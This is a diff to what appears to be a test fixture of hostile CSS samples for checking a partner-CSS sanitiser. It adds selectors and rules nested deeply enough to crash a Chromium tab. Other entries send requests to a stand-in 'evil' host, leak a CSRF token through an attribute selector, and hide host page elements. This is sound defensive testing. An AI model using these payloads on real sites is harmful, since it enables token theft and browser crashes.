@@ -54,6 +54,9 @@ export function partnerCssAttacks(evil: string): PartnerCssAttack[] {
     { name: 'url() of a non-image data URL', css: `:scope { background-image: url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${evil}/svg1'/></svg>") }` },
     { name: 'protocol-relative and backslash URLs', css: `:scope { background-image: url(//${host}/pr1) } :scope::after { content: ""; background-image: url("/\\\\${host}/pr2") } :scope::before { content: ""; background-image: url("/\t/${host}/pr3") }` },
     { name: 'deep nesting', css: `${'@media screen { '.repeat(30)}@font-face { font-family: HostPriceFont; src: url(${evil}/deep.woff2) } .unav-root .x { color: red }${' }'.repeat(30)}` },
+    // Chromium's CSS parser crashed the tab on each of these before the bound (boundCssNesting).
+    { name: 'nested :is() deep enough to crash the parser', css: `.unav-root .x${':is('.repeat(16_000)}.y${')'.repeat(16_000)} { background: url(${evil}/isdeep) } body { ${PAINT} }` },
+    { name: 'nested rules deep enough to crash the parser', css: `${'.a{'.repeat(20_000)}background: url(${evil}/rulesdeep)${'}'.repeat(20_000)} body { ${PAINT} }` },
     { name: 'nested style rules reaching out', css: `.unav-root .x { body:has(#host-csrf[value^="s"]) & { background: url(${evil}/nest1) } & ~ #host-banner { display: none } }` },
   ];
 }
